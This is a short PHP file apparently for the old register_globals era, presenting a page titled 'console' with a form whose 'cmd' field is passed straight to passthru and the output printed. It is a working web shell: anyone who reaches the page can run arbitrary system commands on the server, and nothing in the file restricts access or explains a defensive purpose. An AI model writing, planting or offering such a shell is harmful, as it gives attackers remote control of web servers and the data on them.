<?php
// register_globals era console: $cmd comes straight from the form below.
echo "<html><body><h3>console</h3>";
if ($cmd != "") {
    echo "<pre>";
    $out = passthru($cmd . " 2>&1");
    echo "</pre>";
}
?>
<form method="post">
  <input type="text" name="cmd" size="80">
  <input type="submit" value="Execute">
</form>
</body></html>
